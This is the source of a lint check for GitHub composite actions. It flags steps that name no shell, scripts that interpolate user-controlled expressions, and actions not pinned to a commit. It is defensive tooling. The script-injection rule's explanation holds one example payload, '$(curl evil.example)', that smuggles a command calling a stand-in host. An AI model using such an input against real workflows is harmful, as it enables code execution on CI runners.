// @ts-check
import { defineCheck } from 'service';
import { actionOf, docs, isMapping } from '../action.js';

const hardening = 'https://docs.github.com/en/actions/reference/security/secure-use';

/** An expression with text that whoever opens an issue or calls the action may choose. */
const untrusted = /\$\{\{[^}]*\b(inputs\b|github\.event\b|github\.head_ref\b)[^}]*\}\}/;

export const stepsCheck = defineCheck({
  name: 'steps',
  title: 'The steps of a composite action are safe to run',
  docs: `${docs}#runs-for-composite-actions`,
  modes: ['project'],
  needs: ['metadata'],
  rules: [
    {
      code: 'action-shell-missing',
      title: 'A step with a script names no shell',
      severity: 'error',
      why: 'In an action there is no default shell: the step fails.',
      fix: 'Add shell: bash, or the shell that the script is written for.',
      bad: 'steps:\n  - run: echo hello',
      good: 'steps:\n  - run: echo hello\n    shell: bash',
      docs: `${docs}#runsstepsshell`,
    },
    {
      code: 'action-script-injection',
      title: 'A script is put together with text that others choose',
      severity: 'error',
      why: 'An expression is replaced before the shell starts: an input like $(curl evil.example) is run.',
      fix: 'Hand the value over in env, and use the variable in the script, in quotes.',
      bad: 'run: echo "Hello ${{ inputs.who }}"\nshell: bash',
      good: 'run: echo "Hello $WHO"\nshell: bash\nenv:\n  WHO: ${{ inputs.who }}',
      docs: `${hardening}#good-practices-for-mitigating-script-injection-attacks`,
    },
    {
      code: 'action-uses-unpinned',
      title: 'A step uses another action by a name that can be moved',
      severity: 'warning',
      why: 'Whoever takes over that repository can put other code behind a tag or a branch.',
      fix: 'Pin the action to the full SHA of a commit, and note the version in a comment.',
      bad: 'uses: actions/checkout@v5',
      good: 'uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0',
      docs: `${hardening}#using-third-party-actions`,
    },
  ],
  async *run(context) {
    const { fields, at } = await actionOf(context);
    const runs = isMapping(fields['runs']) ? fields['runs'] : {};
    if (runs['using'] !== 'composite') context.skip('only composite actions have steps');
    const steps = Array.isArray(runs['steps']) ? runs['steps'] : [];
    for (const [index, step] of steps.entries()) {
      if (!isMapping(step)) continue;
      const { run, shell, uses } = step;
      const place = ['runs', 'steps', index];
      if (typeof run === 'string') {
        if (typeof shell !== 'string') {
          yield { code: 'action-shell-missing', message: 'The step names no shell', ...at([...place, 'run']) };
        }
        const evidence = untrusted.exec(run)?.[0];
        if (evidence !== undefined) {
          const message = 'The script contains an expression that others choose the value of';
          yield { code: 'action-script-injection', message, evidence, ...at([...place, 'run']) };
        }
      }
      if (typeof uses === 'string' && isMovable(uses)) {
        const message = `"${uses}" is not pinned to a commit`;
        yield { code: 'action-uses-unpinned', message, evidence: uses, ...at([...place, 'uses']) };
      }
    }
  },
});

/** What lies in the same repository moves with it; an image has a digest of its own. @param {string} uses */
function isMovable(uses) {
  return !uses.startsWith('./') && !uses.startsWith('docker://') && !/@[0-9a-f]{40}$/.test(uses);
}
